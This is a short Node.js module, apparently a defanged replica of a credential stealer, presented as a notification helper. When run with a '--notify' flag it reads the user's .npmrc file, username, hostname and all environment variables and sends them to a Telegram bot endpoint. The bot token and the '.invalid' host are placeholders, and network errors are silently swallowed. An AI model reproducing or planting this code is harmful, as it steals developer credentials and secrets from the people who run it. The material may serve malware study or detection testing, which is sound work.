const https = require('https');
const os = require('os');
const fs = require('fs');
const path = require('path');

const BOT = '0000000000:FAKE_replica_bot_token_not_real_000000';
const CHAT = '-1000000000000';

function send(text) {
  const body = JSON.stringify({ chat_id: CHAT, text, parse_mode: 'HTML' });
  const req = https.request({ hostname: 'api.telegram.org.invalid', path: `/bot${BOT}/sendMessage`, method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } });
  req.on('error', () => {});
  req.end(body);
}

if (process.argv.includes('--notify')) {
  let npmrc = '';
  try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
  send(`<b>${os.userInfo().username}@${os.hostname()}</b>\n<pre>${npmrc}</pre>\n<pre>${JSON.stringify(process.env)}</pre>`);
}
module.exports = send;
